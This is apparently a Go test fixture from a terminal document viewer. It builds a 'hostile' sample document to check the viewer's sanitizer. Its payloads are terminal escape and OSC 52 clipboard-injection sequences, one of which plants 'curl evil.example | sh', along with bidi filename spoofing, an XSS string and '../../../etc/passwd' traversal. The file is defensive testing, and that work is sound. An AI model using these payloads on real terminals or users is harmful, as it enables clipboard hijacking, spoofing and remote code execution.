package library

import (
	"bytes"
	"encoding/base64"
	"strings"

	"github.com/dpe-tui/dpe-tui/convert"
	"github.com/dpe-tui/dpe-tui/dpe"
)

// loneSurrogate marks where the hostile document gets a JSON \ud800 escape:
// Go strings cannot hold one, so it is spliced into the encoded bytes.
const loneSurrogate = "@@LONE-SURROGATE@@"

// hostileStrings are the attack strings of the hardening document: every one
// must reach the screen only through the sanitizer.
type hostileStrings struct {
	ClearScreen, OSCTitle, OSC52, DCS, C1, Bidi, Controls, Invalid, Long string
}

func newHostileStrings() hostileStrings {
	return hostileStrings{
		ClearScreen: "\x1b[2J\x1b[H",
		OSCTitle:    "\x1b]0;you have been pwned\x07",
		OSC52:       "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")) + "\x07",
		DCS:         "\x1bP1$qm\x1b\\",
		C1:          "\u009b31m\u0085\u009d0;c1 title\u009c",
		Bidi:        "invoice\u202Efdp.exe",
		Controls:    "bell\x07 back\x08space nul\x00 cr\roverwrite del\x7f",
		Invalid:     "bad utf8 " + loneSurrogate + " \xff\xfe end",
		Long:        strings.Repeat("0123456789", 1000), // 10,000 characters
	}
}

// all joins every attack string, for places that should carry all of them.
func (h hostileStrings) all() string {
	return strings.Join([]string{h.ClearScreen, h.OSCTitle, h.OSC52, h.DCS, h.C1, h.Bidi, h.Controls, h.Invalid}, " | ")
}

// hostileName is the 10,000-character resource name/title with escapes in it.
func (h hostileStrings) name() string {
	return h.ClearScreen + h.OSCTitle + h.Bidi + " " + h.Long[:10000-len(h.Bidi)-40] + h.OSC52
}

// hostileDocument builds the hardening document: escape sequences, C1
// controls, bidi overrides, invalid UTF-8 (lone-surrogate \u escapes) and
// 10,000-character strings in the title, text, metadata, table cells, code
// and keywords.
func hostileDocument(uri, docRef string) ([]byte, docInfo, error) {
	h := newHostileStrings()
	b := convert.BookWithin(convert.Limits{}, docRef)
	b.StartPage("Page " + h.OSCTitle + h.Bidi)
	t := b.Add(dpe.CategoryTitle, "Hostile "+h.ClearScreen+h.OSCTitle+" title", map[string]any{"category_depth": 0})
	b.Add(dpe.CategoryNarrativeText, "Every line below tries to escape the terminal: "+h.all(), map[string]any{"parent_id": t})
	b.Add(dpe.CategoryNarrativeText, h.Long, map[string]any{"parent_id": t, "note": "10,000 characters without a space"})
	header := []string{"name " + h.Bidi, "value " + h.ClearScreen, h.OSC52}
	rows := [][]string{
		{h.OSCTitle, h.DCS, h.C1},
		{h.Invalid, h.Controls, h.Long[:2000]},
		{"<script>alert(1)</script>", "</td></tr></table>", "&lt;b&gt;"},
	}
	b.Add(dpe.CategoryTable, convert.PlainTableText(header, rows), map[string]any{"parent_id": t, "text_as_html": convert.PlainTableHTML(header, rows) + "<td>" + h.ClearScreen + "</td>"})
	b.Add(dpe.CategoryCodeSnippet, "echo '"+h.ClearScreen+"'\nprintf '"+h.OSC52+"'\n# "+h.Bidi+"\n", map[string]any{"language": "bash" + h.OSCTitle, "parent_id": t})
	b.Add(dpe.CategoryListItem, h.C1+" list item", map[string]any{"category_depth": 1 << 30, "parent_id": "does-not-exist" + h.ClearScreen})
	b.Add(dpe.CategoryCheckBox, h.Bidi, map[string]any{"checked": true})
	b.Add(dpe.CategoryImage, "image "+h.OSCTitle, map[string]any{"image_base64": "!!not base64!!" + h.ClearScreen, "image_mime_type": "image/png" + h.ClearScreen, "image_path": "../../../etc/passwd"})
	b.Add("Custom"+h.ClearScreen+"Category", h.DCS, map[string]any{h.OSCTitle: h.OSC52})
	b.StartPage(h.name())
	b.Add(dpe.CategoryNarrativeText, h.name(), map[string]any{"keywords": []string{h.Long, h.Bidi}})
	b.Add(dpe.CategoryEmailAddress, "attacker@example.invalid"+h.OSC52, map[string]any{"sent_from": []string{h.OSCTitle}})
	b.Add(dpe.CategoryFooter, h.Invalid, nil)

	info := docInfo{
		Title:        "Hostile strings " + h.ClearScreen + h.OSCTitle + h.Bidi + " " + h.Long[:200],
		Summary:      "Hardening sample: " + h.all(),
		FileType:     "dpe",
		Keywords:     []string{"hostile", h.ClearScreen + "kw", h.Bidi, h.Long[:500]},
		LastModified: "2026-03-03T03:03:03Z",
	}
	out, err := b.JSON(convert.Head{DocRef: docRef, URI: uri, FileType: info.FileType, Title: info.Title, Summary: info.Summary,
		Keywords: info.Keywords, LastModified: info.LastModified})
	info.PageCount = b.Len()
	if err != nil {
		return nil, info, err
	}
	out = bytes.ReplaceAll(out, []byte(loneSurrogate), []byte(`\ud800 \udfff \udc00\ud800`))
	info.Title = strings.ReplaceAll(info.Title, loneSurrogate, "\ufffd")
	info.Summary = strings.ReplaceAll(info.Summary, loneSurrogate, "\ufffd")
	return out, info, nil
}
